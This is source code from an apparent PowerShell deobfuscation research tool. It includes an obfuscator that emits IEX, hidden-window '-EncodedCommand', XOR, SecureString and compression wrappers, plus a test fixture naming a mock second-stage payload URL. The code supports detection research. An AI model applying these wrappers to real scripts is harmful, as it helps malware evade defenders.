// deterministic for a given rng state.
func (p *Profile) Stack(rng *rand.Rand, depth int) []Technique {
	if depth > p.MaxDepth {
		depth = p.MaxDepth
	}
	if depth < 0 {
		depth = 0
	}
	var stack []Technique
	pick := func(pool []Technique) Technique { return pool[rng.Intn(len(pool))] }
	appendL1 := func(count int) {
		pool := append([]Technique(nil), p.l1...)
		rng.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
		if count > len(pool) {
			count = len(pool)
		}
		stack = append(stack, pool[:count]...)
	}
	// Inner string transforms and randomization, hidden by later
	// wrappers but present once the sample is peeled.
	if len(p.l2) > 0 && rng.Float64() < p.innerL2Prob {
		stack = append(stack, pick(p.l2))
	}
	if len(p.l1) > 0 && p.innerL1Prob > 0 && rng.Float64() < p.innerL1Prob {
		appendL1(1 + rng.Intn(p.innerL1Max))
	}
	// L3 wrapper layers, optionally re-obfuscated in between.
	for i := 0; i < depth; i++ {
		stack = append(stack, pick(p.l3))
		if p.interleave && i < depth-1 {
			if len(p.l2) > 0 && rng.Float64() < 0.5 {
				stack = append(stack, pick(p.l2))
			}
			appendL1(1)
		}
	}
	// Outer transforms keep L1/L2 visible on the final text.
	if len(p.l2) > 0 && rng.Float64() < p.outerL2Prob {
		stack = append(stack, pick(p.l2))
	}
	if p.outerL1Max > 0 {
		n := p.outerL1Min
		if p.outerL1Max > p.outerL1Min {
			n += rng.Intn(p.outerL1Max - p.outerL1Min + 1)
		}
		appendL1(n)
	}
	return stack
}

// ApplyProfile draws one stack from the profile at the given depth and
// applies it, returning the obfuscated script, the techniques that
// took effect and the ones skipped with reasons. The whole operation
// is deterministic for the Obfuscator's seed.
func (o *Obfuscator) ApplyProfile(src string, p *Profile, depth int) (string, []Technique, []Skip, error) {
	stack := p.Stack(o.rng, depth)
	return o.ApplyStackDetailed(src, stack)
}
