package obfuscate

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strconv"
	"strings"
	"unicode/utf16"

	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
)

// iexSpellings are the Invoke-Expression invocation forms the paper
// lists (§III-B4).
var iexSpellings = []string{
	"Invoke-Expression",
	"IEX",
	"iex",
	"&('iex')",
	".('iex')",
	"&'IEX'",
}

func (o *Obfuscator) iexPrefix() string {
	return iexSpellings[o.rng.Intn(len(iexSpellings))]
}

// numericWrap encodes the whole script as per-character codes in the
// given base with a ForEach-Object decoder (the ASCII/Hex/Binary/Octal
// encoding rows of Table II).
func (o *Obfuscator) numericWrap(src string, base int) (string, error) {
	script := strings.TrimSpace(src)
	if script == "" {
		return "", notApplicable("empty script")
	}
	if base == 10 {
		codes := make([]string, 0, len(script))
		for _, r := range script {
			codes = append(codes, strconv.Itoa(int(r)))
		}
		return fmt.Sprintf("%s (-join ((%s) | ForEach-Object {[char]$_}))",
			o.iexPrefix(), strings.Join(codes, ",")), nil
	}
	codes := make([]string, 0, len(script))
	for _, r := range script {
		codes = append(codes, strconv.FormatInt(int64(r), base))
	}
	sep := ","
	return fmt.Sprintf("%s (-join (%s -split '%s' | ForEach-Object {[char][convert]::ToInt32($_,%d)}))",
		o.iexPrefix(), quote(strings.Join(codes, sep)), sep, base), nil
}

// base64Wrap hides the script behind one of the Base64 carriers:
// powershell -EncodedCommand or [Convert]::FromBase64String + IEX.
func (o *Obfuscator) base64Wrap(src string) (string, error) {
	script := strings.TrimSpace(src)
	if script == "" {
		return "", notApplicable("empty script")
	}
	switch o.rng.Intn(3) {
	case 0:
		// UTF-16LE, the -EncodedCommand contract.
		u16 := utf16.Encode([]rune(script))
		raw := make([]byte, 0, len(u16)*2)
		for _, u := range u16 {
			raw = append(raw, byte(u), byte(u>>8))
		}
		b64 := base64.StdEncoding.EncodeToString(raw)
		param := []string{"-EncodedCommand", "-enc", "-e", "-eNc", "-ec"}[o.rng.Intn(5)]
		flags := []string{"", "-NoP ", "-w hidden ", "-NonI -NoP "}[o.rng.Intn(4)]
		return "powershell " + flags + param + " " + b64, nil
	case 1:
		u16 := utf16.Encode([]rune(script))
		raw := make([]byte, 0, len(u16)*2)
		for _, u := range u16 {
			raw = append(raw, byte(u), byte(u>>8))
		}
		b64 := base64.StdEncoding.EncodeToString(raw)
		return fmt.Sprintf("%s ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(%s)))",
			o.iexPrefix(), quote(b64)), nil
	default:
		b64 := base64.StdEncoding.EncodeToString([]byte(script))
		return fmt.Sprintf("%s ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(%s)))",
			o.iexPrefix(), quote(b64)), nil
	}
}

// whitespaceWrap encodes each character as a run of spaces whose length
// is the code point, decoded by a loop. This is the one technique the
// paper's tool (and ours) deliberately cannot recover — the decoder
// assigns inside a loop, which variable tracing refuses to fold
// (paper §V-C); it stays in the corpus to reproduce that limitation.
func (o *Obfuscator) whitespaceWrap(src string) (string, error) {
	script := strings.TrimSpace(src)
	if script == "" || len(script) > 4096 {
		return "", notApplicable("script empty or exceeds 4096 bytes")
	}
	var runs []string
	for _, r := range script {
		if r > 512 {
			return "", notApplicable("code point above 512")
		}
		runs = append(runs, strings.Repeat(" ", int(r)))
	}
	payload := strings.Join(runs, "\t")
	var sb strings.Builder
	v := "$" + strings.ToLower(o.randomIdentifier())
	out := "$" + strings.ToLower(o.randomIdentifier())
	seg := "$" + strings.ToLower(o.randomIdentifier())
	fmt.Fprintf(&sb, "%s = %s\n", v, quote(payload))
	fmt.Fprintf(&sb, "%s = ''\n", out)
	fmt.Fprintf(&sb, "foreach (%s in %s -split \"`t\") { %s += [char]%s.Length }\n", seg, v, out, seg)
	fmt.Fprintf(&sb, "%s %s", o.iexPrefix(), out)
	return sb.String(), nil
}

// specialCharWrap rebuilds every character from the lengths of
// punctuation-only strings, so the script contains almost no letters
// (the Special Characters row of Table II).
func (o *Obfuscator) specialCharWrap(src string) (string, error) {
	script := strings.TrimSpace(src)
	if script == "" || len(script) > 2048 {
		return "", notApplicable("script empty or exceeds 2048 bytes")
	}
	specials := "!#%&*+;~"
	bang := func(n int) string {
		c := specials[o.rng.Intn(len(specials))]
		return quote(strings.Repeat(string(c), n))
	}
	const b = 12
	exprs := make([]string, 0, len(script))
	for _, r := range script {
		code := int(r)
		if code > 1024 {
			return "", notApplicable("code point above 1024")
		}
		a := code / b
		c := code % b
		var expr string
		switch {
		case a == 0:
			expr = fmt.Sprintf("[char](%s.Length)", bang(c))
		case c == 0:
			expr = fmt.Sprintf("[char](%s.Length*%s.Length)", bang(a), bang(b))
		default:
			expr = fmt.Sprintf("[char](%s.Length*%s.Length+%s.Length)", bang(a), bang(b), bang(c))
		}
		exprs = append(exprs, expr)
	}
	return fmt.Sprintf("%s (-join (%s))", o.iexPrefix(), strings.Join(exprs, ",")), nil
}

// bxorWrap encodes the script as decimal codes xored with a random key
// (the paper's Listing 4 pattern).
func (o *Obfuscator) bxorWrap(src string) (string, error) {
	script := strings.TrimSpace(src)
	if script == "" {
		return "", notApplicable("empty script")
	}
	key := o.randRange(1, 126)
	codes := make([]string, 0, len(script))
	for _, r := range script {
		if r > 0xFFFF {
			return "", notApplicable("code point above U+FFFF")
		}
		codes = append(codes, strconv.Itoa(int(r)^key))
	}
	keyLit := strconv.Itoa(key)
	if o.rng.Intn(2) == 0 {
		keyLit = quote(fmt.Sprintf("0x%X", key))
	}
	return fmt.Sprintf("%s ((%s -split ',' | ForEach-Object {[char]([int]$_ -bxor %s)}) -join '')",
		o.iexPrefix(), quote(strings.Join(codes, ",")), keyLit), nil
}

// secureStringWrap hides the script in a key-encrypted SecureString,
// recovered via Marshal::PtrToStringAuto (Table II row SecureString).
func (o *Obfuscator) secureStringWrap(src string) (string, error) {
	script := strings.TrimSpace(src)
	if script == "" {
		return "", notApplicable("empty script")
	}
	key := make([]byte, 16)
	keyParts := make([]string, 16)
	for i := range key {
		key[i] = byte(o.randRange(1, 255))
		keyParts[i] = strconv.Itoa(int(key[i]))
	}
	enc, err := psinterp.EncryptSecureString(script, key)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf(
		"%s ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -String %s -Key (%s)))))",
		o.iexPrefix(), quote(enc), strings.Join(keyParts, ",")), nil
}

// compressWrap deflates or gzips the script into Base64 with the
// classic StreamReader/DeflateStream loader.
func (o *Obfuscator) compressWrap(src string, algorithm string) (string, error) {
	script := strings.TrimSpace(src)
	if script == "" {
		return "", notApplicable("empty script")
	}
	var buf bytes.Buffer
	switch algorithm {
	case "gzip":
		w := gzip.NewWriter(&buf)
		if _, err := w.Write([]byte(script)); err != nil {
			return "", err
		}
		if err := w.Close(); err != nil {
			return "", err
		}
	default:
		w, err := flate.NewWriter(&buf, flate.BestCompression)
		if err != nil {
			return "", err
		}
		if _, err := w.Write([]byte(script)); err != nil {
			return "", err
		}
		if err := w.Close(); err != nil {
			return "", err
		}
	}
	streamType := "IO.Compression.DeflateStream"
	if algorithm == "gzip" {
		streamType = "IO.Compression.GzipStream"
	}
	b64 := base64.StdEncoding.EncodeToString(buf.Bytes())
	return fmt.Sprintf(
		"%s ((New-Object IO.StreamReader((New-Object %s([IO.MemoryStream][Convert]::FromBase64String(%s),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::UTF8)).ReadToEnd())",
		o.iexPrefix(), streamType, quote(b64)), nil
}
