package obfuscate

import (
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// profileTestScript exercises every technique class: string literals
// (L2 targets), user variables (random-name), aliasable cmdlets, and
// an automatic variable that must survive renaming.
const profileTestScript = `$stage = 'https://cdn1.update2.example/payload.ps1'
$dest = "$env:TEMP\stage2.ps1"
Invoke-Expression ('write-host ' + 'ready')
write-output $stage
write-output $PSScriptRoot
`

// TestProfileStackDeterminism is the determinism pin: for every
// profile × seed × depth, ApplyProfile output is byte-identical across
// two independent runs with the same seed, and always parses.
func TestProfileStackDeterminism(t *testing.T) {
	for _, p := range Profiles() {
		for seed := int64(1); seed <= 5; seed++ {
			for depth := 0; depth <= p.MaxDepth; depth++ {
				out1, applied1, skipped1, err1 := New(seed).ApplyProfile(profileTestScript, p, depth)
				out2, applied2, skipped2, err2 := New(seed).ApplyProfile(profileTestScript, p, depth)
				if err1 != nil || err2 != nil {
					t.Fatalf("%s/seed=%d/depth=%d: errors %v / %v", p.Name, seed, depth, err1, err2)
				}
				if out1 != out2 {
					t.Fatalf("%s/seed=%d/depth=%d: nondeterministic output\nrun1: %.200s\nrun2: %.200s",
						p.Name, seed, depth, out1, out2)
				}
				if len(applied1) != len(applied2) || len(skipped1) != len(skipped2) {
					t.Fatalf("%s/seed=%d/depth=%d: nondeterministic accounting", p.Name, seed, depth)
				}
				for i := range applied1 {
					if applied1[i] != applied2[i] {
						t.Fatalf("%s/seed=%d/depth=%d: applied diverged at %d: %s vs %s",
							p.Name, seed, depth, i, applied1[i], applied2[i])
					}
				}
				if _, perr := psparser.Parse(out1); perr != nil {
					t.Fatalf("%s/seed=%d/depth=%d: output does not parse: %v\n%.300s",
						p.Name, seed, depth, perr, out1)
				}
			}
		}
	}
}

// TestProfileStackDrawDeterminism pins the stack draw itself (before
// application): same seed, same stack.
func TestProfileStackDrawDeterminism(t *testing.T) {
	for _, p := range Profiles() {
		for seed := int64(1); seed <= 10; seed++ {
			s1 := p.Stack(New(seed).rng, p.MaxDepth)
			s2 := p.Stack(New(seed).rng, p.MaxDepth)
			if len(s1) != len(s2) {
				t.Fatalf("%s/seed=%d: stack lengths differ", p.Name, seed)
			}
			for i := range s1 {
				if s1[i] != s2[i] {
					t.Fatalf("%s/seed=%d: stacks differ at %d", p.Name, seed, i)
				}
			}
			if len(s1) == 0 {
				t.Fatalf("%s/seed=%d: empty stack", p.Name, seed)
			}
		}
	}
}

// TestProfileDepthClamp verifies depth is clamped to [0, MaxDepth]:
// the number of L3 techniques drawn never exceeds the profile cap.
func TestProfileDepthClamp(t *testing.T) {
	for _, p := range Profiles() {
		for _, depth := range []int{-1, 0, 1, 5, 100} {
			stack := p.Stack(New(7).rng, depth)
			l3 := 0
			for _, tech := range stack {
				if Level(tech) == 3 {
					l3++
				}
			}
			want := depth
			if want > p.MaxDepth {
				want = p.MaxDepth
			}
			if want < 0 {
				want = 0
			}
			if l3 != want {
				t.Errorf("%s: depth=%d drew %d L3 wrappers, want %d", p.Name, depth, l3, want)
			}
		}
	}
}

// TestProfileReservedIdentifiers is the reserved-identifier guarantee:
// automatic variables like $PSScriptRoot are never renamed by any
// profile at any tested seed.
func TestProfileReservedIdentifiers(t *testing.T) {
	script := "$PSScriptRoot\n$myInvocation\n$ErrorActionPreference = 'Stop'\n$data = 'abcd1234'\nwrite-output $data\n"
	for _, p := range Profiles() {
		for seed := int64(1); seed <= 5; seed++ {
			// Depth 0 keeps the text unwrapped so the variables stay
			// visible for inspection.
			out, applied, _, err := New(seed).ApplyProfile(script, p, 0)
			if err != nil {
				t.Fatalf("%s/seed=%d: %v", p.Name, seed, err)
			}
			renamed := false
			for _, tech := range applied {
				if tech == RandomName {
					renamed = true
				}
			}
			lower := strings.ToLower(out)
			for _, name := range []string{"psscriptroot", "myinvocation", "erroractionpreference"} {
				if !strings.Contains(lower, name) {
					t.Errorf("%s/seed=%d: automatic variable $%s was renamed (renamed-pass=%v)\n%s",
						p.Name, seed, name, renamed, out)
				}
			}
		}
	}
}

// TestGetProfile pins the lookup contract.
func TestGetProfile(t *testing.T) {
	for _, name := range ProfileNames() {
		if _, ok := GetProfile(name); !ok {
			t.Errorf("GetProfile(%q) not found", name)
		}
		if _, ok := GetProfile(strings.ToUpper(name)); !ok {
			t.Errorf("GetProfile(%q) should be case-insensitive", strings.ToUpper(name))
		}
	}
	if _, ok := GetProfile("no-such-profile"); ok {
		t.Error("GetProfile accepted an unknown name")
	}
	if len(ProfileNames()) < 5 {
		t.Errorf("expected at least 5 profiles, got %v", ProfileNames())
	}
}

// FuzzProfileStack fuzzes (seed, depth) over every profile: output
// must always parse and must be byte-identical across two runs with
// the same seed.
func FuzzProfileStack(f *testing.F) {
	f.Add(int64(1), 1)
	f.Add(int64(42), 3)
	f.Add(int64(-9), 0)
	f.Fuzz(func(t *testing.T, seed int64, depth int) {
		if depth < -2 || depth > 4 {
			depth = ((depth % 4) + 4) % 4
		}
		for _, p := range Profiles() {
			out1, _, _, err1 := New(seed).ApplyProfile(profileTestScript, p, depth)
			out2, _, _, err2 := New(seed).ApplyProfile(profileTestScript, p, depth)
			if (err1 == nil) != (err2 == nil) {
				t.Fatalf("%s/seed=%d/depth=%d: nondeterministic error: %v vs %v", p.Name, seed, depth, err1, err2)
			}
			if err1 != nil {
				continue
			}
			if out1 != out2 {
				t.Fatalf("%s/seed=%d/depth=%d: nondeterministic output", p.Name, seed, depth)
			}
			if _, perr := psparser.Parse(out1); perr != nil {
				t.Fatalf("%s/seed=%d/depth=%d: output does not parse: %v", p.Name, seed, depth, perr)
			}
		}
	})
}
