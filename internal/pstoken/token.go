// Package pstoken implements a mode-aware tokenizer for the PowerShell
// scripting language, modeled on the token taxonomy of Microsoft's
// System.Management.Automation.PSParser (PSTokenType).
//
// The tokenizer is the substrate for the deobfuscator's "token parsing"
// phase (paper §III-A): it classifies every lexical unit with its exact
// source extent so obfuscation at the token level (ticking, random case,
// aliases, random whitespace) can be recovered and replaced in place.
package pstoken

import (
	"fmt"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// Type classifies a token, mirroring PSTokenType.
type Type int

// Token types, mirroring System.Management.Automation.PSTokenType.
const (
	Unknown Type = iota
	// Command is a command name at the start of a pipeline element
	// (e.g. Write-Host, iex).
	Command
	// CommandArgument is a bare-word argument to a command.
	CommandArgument
	// CommandParameter is a -Name style parameter.
	CommandParameter
	// Comment is a line (#) or block (<# #>) comment.
	Comment
	// GroupStart is one of ( { [ @( $( @{.
	GroupStart
	// GroupEnd is one of ) } ].
	GroupEnd
	// Keyword is a language keyword (if, while, function, ...).
	Keyword
	// LineContinuation is a backtick at end of line.
	LineContinuation
	// LoopLabel is a :label before a loop keyword.
	LoopLabel
	// Member is a property or method name after . or ::.
	Member
	// NewLine is a line break acting as a statement separator.
	NewLine
	// Number is a numeric literal (integer, hex, real, with multipliers).
	Number
	// Operator is any operator, including dash operators such as -f.
	Operator
	// StatementSeparator is a semicolon.
	StatementSeparator
	// String is a quoted string or here-string literal.
	String
	// TypeLiteral is a [TypeName] literal.
	TypeLiteral
	// Variable is a $name, ${name} or $scope:name reference.
	Variable
)

var typeNames = map[Type]string{
	Unknown:            "Unknown",
	Command:            "Command",
	CommandArgument:    "CommandArgument",
	CommandParameter:   "CommandParameter",
	Comment:            "Comment",
	GroupStart:         "GroupStart",
	GroupEnd:           "GroupEnd",
	Keyword:            "Keyword",
	LineContinuation:   "LineContinuation",
	LoopLabel:          "LoopLabel",
	Member:             "Member",
	NewLine:            "NewLine",
	Number:             "Number",
	Operator:           "Operator",
	StatementSeparator: "StatementSeparator",
	String:             "String",
	TypeLiteral:        "Type",
	Variable:           "Variable",
}

// String returns the PSTokenType-style name of the token type.
func (t Type) String() string {
	if s, ok := typeNames[t]; ok {
		return s
	}
	return fmt.Sprintf("Type(%d)", int(t))
}

// StringKind describes the flavor of a String token.
type StringKind int

// String token flavors.
const (
	// BareWord is an unquoted word used as an argument or value.
	BareWord StringKind = iota
	// SingleQuoted is a 'literal' string.
	SingleQuoted
	// DoubleQuoted is an "expandable" string.
	DoubleQuoted
	// SingleHereString is a @'...'@ here-string.
	SingleHereString
	// DoubleHereString is a @"..."@ here-string.
	DoubleHereString
)

// Token is a single lexical unit with its exact source extent.
type Token struct {
	// Type is the PSTokenType-style classification.
	Type Type
	// Content is the decoded content: escapes resolved for strings,
	// backticks stripped from bare words, brackets stripped from type
	// literals, $ stripped from variables.
	Content string
	// Text is the raw source text of the token.
	Text string
	// Start is the byte offset of the token in the source.
	Start int
	// Length is the byte length of the raw token text.
	Length int
	// Line is the 1-based line number of the token start.
	Line int
	// Column is the 1-based byte column of the token start.
	Column int
	// Kind differentiates string flavors (only meaningful for String
	// and CommandArgument/Command tokens derived from bare words).
	Kind StringKind
	// HadTicks reports whether the raw text contained backtick escapes
	// that were stripped (ticking obfuscation for bare words).
	HadTicks bool
}

// End returns the byte offset one past the token.
func (t Token) End() int { return t.Start + t.Length }

func (t Token) String() string {
	return fmt.Sprintf("%s(%q@%d)", t.Type, t.Content, t.Start)
}

// Error describes a tokenization failure at a source position.
type Error struct {
	Pos  int
	Line int
	Msg  string
	// Depth marks errors caused by the group-nesting limit; such errors
	// unwrap to limits.ErrParseDepth.
	Depth bool
}

func (e *Error) Error() string {
	return fmt.Sprintf("line %d (offset %d): %s", e.Line, e.Pos, e.Msg)
}

// Unwrap exposes the taxonomy sentinel for depth-limit failures.
func (e *Error) Unwrap() error {
	if e.Depth {
		return limits.ErrParseDepth
	}
	return nil
}
