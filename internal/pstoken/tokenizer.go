package pstoken

import (
	"strings"
	"unicode/utf8"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// maxGroupDepth bounds the group-nesting stack. The lexer itself is
// iterative, so this guards memory rather than the call stack, and is
// set above the parser's recursion limit so the parser's depth error is
// the one surfaced for inputs both could reject.
const maxGroupDepth = 100_000

// lexState tracks the parsing mode, which PowerShell needs because bare
// words mean different things in command, argument and expression
// positions.
type lexState int

const (
	// sStmtStart expects the start of a statement or pipeline element.
	sStmtStart lexState = iota
	// sCmdName expects a command name after a call operator (& or .).
	sCmdName
	// sArgs is inside a command's argument list.
	sArgs
	// sExpr expects an expression operand.
	sExpr
	// sPostfix follows a complete operand; operators are expected.
	sPostfix
	// sHash expects a hashtable key.
	sHash
	// sMember expects a member name after . or ::.
	sMember
	// sFunctionName expects the name in a function definition.
	sFunctionName
)

type containerKind int

const (
	cParen containerKind = iota
	cSubExpr
	cArraySub
	cBrace
	cHash
	cIndex
)

type frame struct {
	kind containerKind
	ret  lexState
}

type lexer struct {
	src       string
	pos       int
	line      int
	lineStart int
	toks      []Token
	state     lexState
	stack     []frame
	afterPipe bool
	lastEnd   int
	lastType  Type
	err       *Error
}

// Tokenize splits a PowerShell script into tokens. On a lexical error it
// returns the tokens recognized so far together with the error. Internal
// panics are converted to a *limits.PanicError rather than crashing the
// caller.
func Tokenize(src string) (toks []Token, err error) {
	defer limits.Recover("pstoken.Tokenize", &err)
	l := &lexer{src: src, line: 1, state: sStmtStart, lastEnd: -1}
	// Pre-size the token slice from the source length. PowerShell
	// averages roughly six source bytes per token; starting near that
	// estimate turns the append-growth cascade (the dominant
	// allocation in tokenization) into at most one or two regrowths.
	if est := len(src)/6 + 8; est > 16 {
		l.toks = make([]Token, 0, est)
	}
	l.run()
	if l.err != nil {
		return l.toks, l.err
	}
	return l.toks, nil
}

func (l *lexer) fail(pos int, msg string) {
	if l.err == nil {
		l.err = &Error{Pos: pos, Line: l.line, Msg: msg}
	}
	l.pos = len(l.src)
}

func (l *lexer) runeAt(pos int) (rune, int) {
	if pos >= len(l.src) {
		return 0, 0
	}
	b := l.src[pos]
	if b < utf8.RuneSelf {
		return rune(b), 1
	}
	return utf8.DecodeRuneInString(l.src[pos:])
}

func (l *lexer) peek(off int) rune {
	p := l.pos
	for i := 0; i <= off; i++ {
		r, size := l.runeAt(p)
		if size == 0 {
			return 0
		}
		if i == off {
			return r
		}
		p += size
	}
	return 0
}

// emit records a token spanning [start, l.pos).
func (l *lexer) emit(t Type, start int, content string) {
	l.emitKind(t, start, content, BareWord, false)
}

func (l *lexer) emitKind(t Type, start int, content string, kind StringKind, hadTicks bool) {
	tok := Token{
		Type:     t,
		Content:  content,
		Text:     l.src[start:l.pos],
		Start:    start,
		Length:   l.pos - start,
		Line:     l.line,
		Column:   start - l.lineStart + 1,
		Kind:     kind,
		HadTicks: hadTicks,
	}
	l.toks = append(l.toks, tok)
	if t != Comment && t != NewLine && t != LineContinuation {
		l.lastEnd = l.pos
		l.lastType = t
		if t != Operator || (content != "|" && content != ";") {
			l.afterPipe = false
		}
	}
	// Keep line counting correct for multi-line tokens.
	if nl := strings.Count(tok.Text, "\n"); nl > 0 {
		l.line += nl
		l.lineStart = start + strings.LastIndexByte(tok.Text, '\n') + 1
	}
}

// attached reports whether the current position immediately follows the
// previous significant token with no intervening whitespace.
func (l *lexer) attached() bool { return l.pos == l.lastEnd }

// afterOperand returns the state to enter after a complete operand.
func (l *lexer) afterOperand() lexState {
	switch l.state {
	case sArgs, sCmdName:
		return sArgs
	case sHash:
		return sHash
	default:
		return sPostfix
	}
}

// afterSeparator returns the state after ; or a newline.
func (l *lexer) afterSeparator() lexState {
	if n := len(l.stack); n > 0 && l.stack[n-1].kind == cHash {
		return sHash
	}
	return sStmtStart
}

func (l *lexer) pushGroup(kind containerKind, start int, text string, inner lexState) {
	if len(l.stack) >= maxGroupDepth {
		if l.err == nil {
			l.err = &Error{Pos: start, Line: l.line, Msg: "group nesting depth limit exceeded", Depth: true}
		}
		l.pos = len(l.src)
		return
	}
	l.stack = append(l.stack, frame{kind: kind, ret: l.afterOperand()})
	l.pos = start + len(text)
	l.emit(GroupStart, start, text)
	l.state = inner
}

func (l *lexer) popGroup(start int, text string, want ...containerKind) {
	matched := false
	if n := len(l.stack); n > 0 {
		for _, k := range want {
			if l.stack[n-1].kind == k {
				matched = true
				break
			}
		}
		if matched {
			l.state = l.stack[n-1].ret
			l.stack = l.stack[:n-1]
		}
	}
	if !matched {
		l.state = sPostfix
	}
	l.pos = start + len(text)
	l.emit(GroupEnd, start, text)
}

func (l *lexer) run() {
	for l.pos < len(l.src) && l.err == nil {
		start := l.pos
		r, size := l.runeAt(l.pos)
		switch {
		case isSpace(r):
			l.pos += size
		case r == '\r' || r == '\n':
			l.lexNewline(start)
		case r == '`':
			l.lexBacktick(start)
		case r == '#':
			l.lexLineComment(start)
		case r == '<' && l.peek(1) == '#':
			l.lexBlockComment(start)
		case r == '\'':
			l.lexSingleQuoted(start)
		case r == '"':
			l.lexDoubleQuoted(start)
		case r == '@':
			l.lexAt(start)
		case r == '$':
			l.lexDollar(start)
		case r == '(':
			l.pushGroup(cParen, start, "(", sStmtStart)
		case r == ')':
			l.popGroup(start, ")", cParen, cSubExpr, cArraySub)
		case r == '{':
			l.pushGroup(cBrace, start, "{", sStmtStart)
		case r == '}':
			l.popGroup(start, "}", cBrace, cHash)
		case r == '[':
			l.lexOpenBracket(start)
		case r == ']':
			l.popGroup(start, "]", cIndex)
		case r == ';':
			l.pos += size
			l.emit(StatementSeparator, start, ";")
			l.state = l.afterSeparator()
		case r == '|':
			l.pos += size
			if l.peek(0) == '|' {
				l.pos++
				l.emit(Operator, start, "||")
			} else {
				l.emit(Operator, start, "|")
			}
			l.state = sStmtStart
			l.afterPipe = true
		case r == '&':
			l.pos += size
			if l.peek(0) == '&' {
				l.pos++
				l.emit(Operator, start, "&&")
				l.state = sStmtStart
			} else {
				l.emit(Operator, start, "&")
				l.state = sCmdName
			}
		case r == ',':
			l.pos += size
			l.emit(Operator, start, ",")
			if l.state == sArgs {
				// stay in argument mode
			} else {
				l.state = sExpr
			}
		case r == ':':
			l.lexColon(start)
		case r == '.':
			l.lexDot(start)
		case r == '-':
			l.lexDash(start)
		case r == '+' || r == '*' || r == '/' || r == '%' || r == '!' || r == '=' || r == '>' || r == '<':
			l.lexSimpleOperator(start, r)
		case r >= '0' && r <= '9':
			l.lexNumberOrWord(start)
		case isWordStart(r):
			l.lexWord(start)
		default:
			l.pos += size
			l.emit(Unknown, start, string(r))
		}
	}
	if l.err == nil {
		if n := len(l.stack); n > 0 {
			l.err = &Error{Pos: len(l.src), Line: l.line, Msg: "unclosed group"}
		}
	}
}

func (l *lexer) lexNewline(start int) {
	if l.src[l.pos] == '\r' {
		l.pos++
		if l.pos < len(l.src) && l.src[l.pos] == '\n' {
			l.pos++
		}
	} else {
		l.pos++
	}
	l.emit(NewLine, start, "\n")
	l.state = l.afterSeparator()
}

func (l *lexer) lexBacktick(start int) {
	next := l.peek(1)
	if next == '\r' || next == '\n' {
		l.pos++ // backtick
		if l.src[l.pos] == '\r' {
			l.pos++
		}
		if l.pos < len(l.src) && l.src[l.pos] == '\n' {
			l.pos++
		}
		l.emit(LineContinuation, start, "`")
		return
	}
	if next == 0 {
		l.pos++
		l.emit(Unknown, start, "`")
		return
	}
	// A backtick can start a ticked bare word, e.g. `i`e`x.
	switch l.state {
	case sStmtStart, sCmdName, sArgs, sFunctionName, sHash:
		l.lexWord(start)
	case sMember:
		l.lexWord(start)
	default:
		// Escaped character in expression position: treat as word.
		l.lexWord(start)
	}
}

func (l *lexer) lexLineComment(start int) {
	for l.pos < len(l.src) && l.src[l.pos] != '\n' && l.src[l.pos] != '\r' {
		l.pos++
	}
	l.emit(Comment, start, l.src[start:l.pos])
}

func (l *lexer) lexBlockComment(start int) {
	end := strings.Index(l.src[l.pos:], "#>")
	if end < 0 {
		l.fail(start, "unterminated block comment")
		return
	}
	l.pos += end + 2
	l.emit(Comment, start, l.src[start:l.pos])
}

func (l *lexer) lexSingleQuoted(start int) {
	l.pos++ // opening quote
	// Scan by byte: the only special character is the quote itself,
	// which is ASCII and therefore can never be a UTF-8 continuation
	// byte. Content is a zero-copy slice of the source unless an
	// escaped quote ('') forces a rebuild, and even then verbatim
	// spans are appended chunk-wise rather than rune-by-rune.
	var sb strings.Builder
	chunk := l.pos
	for l.pos < len(l.src) {
		i := strings.IndexByte(l.src[l.pos:], '\'')
		if i < 0 {
			break
		}
		q := l.pos + i
		if q+1 < len(l.src) && l.src[q+1] == '\'' {
			sb.WriteString(l.src[chunk:q])
			sb.WriteByte('\'')
			l.pos = q + 2
			chunk = l.pos
			continue
		}
		var content string
		if sb.Len() == 0 {
			content = l.src[chunk:q]
		} else {
			sb.WriteString(l.src[chunk:q])
			content = sb.String()
		}
		l.pos = q + 1
		l.emitKind(String, start, content, SingleQuoted, false)
		l.state = l.afterOperand()
		return
	}
	l.pos = len(l.src)
	l.fail(start, "unterminated single-quoted string")
}

func (l *lexer) lexDoubleQuoted(start int) {
	l.pos++ // opening quote
	// Content diverges from the raw source only on escaped quotes ("")
	// and backtick escapes; embedded $( ) subexpressions are copied
	// verbatim. So scan by byte for the three ASCII special characters
	// (safe: they are never UTF-8 continuation bytes), keep a pending
	// verbatim chunk, and materialize a builder only on divergence —
	// the common escape-free string is a zero-copy source slice.
	var sb strings.Builder
	chunk := l.pos
	for l.pos < len(l.src) {
		switch l.src[l.pos] {
		case '"':
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == '"' {
				sb.WriteString(l.src[chunk:l.pos])
				sb.WriteByte('"')
				l.pos += 2
				chunk = l.pos
				continue
			}
			var content string
			if sb.Len() == 0 {
				content = l.src[chunk:l.pos]
			} else {
				sb.WriteString(l.src[chunk:l.pos])
				content = sb.String()
			}
			l.pos++
			l.emitKind(String, start, content, DoubleQuoted, false)
			l.state = l.afterOperand()
			return
		case '`':
			r2, s2 := l.runeAt(l.pos + 1)
			if s2 == 0 {
				l.fail(start, "unterminated double-quoted string")
				return
			}
			sb.WriteString(l.src[chunk:l.pos])
			if esc, ok := doubleQuoteEscapes[r2]; ok {
				sb.WriteRune(esc)
			} else {
				sb.WriteRune(r2)
			}
			l.pos += 1 + s2
			chunk = l.pos
		case '$':
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == '(' {
				// Embedded subexpression: find the balanced close so
				// quotes inside do not end the string. The text stays
				// verbatim, so it remains part of the pending chunk.
				end, ok := FindMatchingParen(l.src, l.pos+1)
				if !ok {
					l.fail(start, "unterminated subexpression in string")
					return
				}
				l.pos = end + 1
				continue
			}
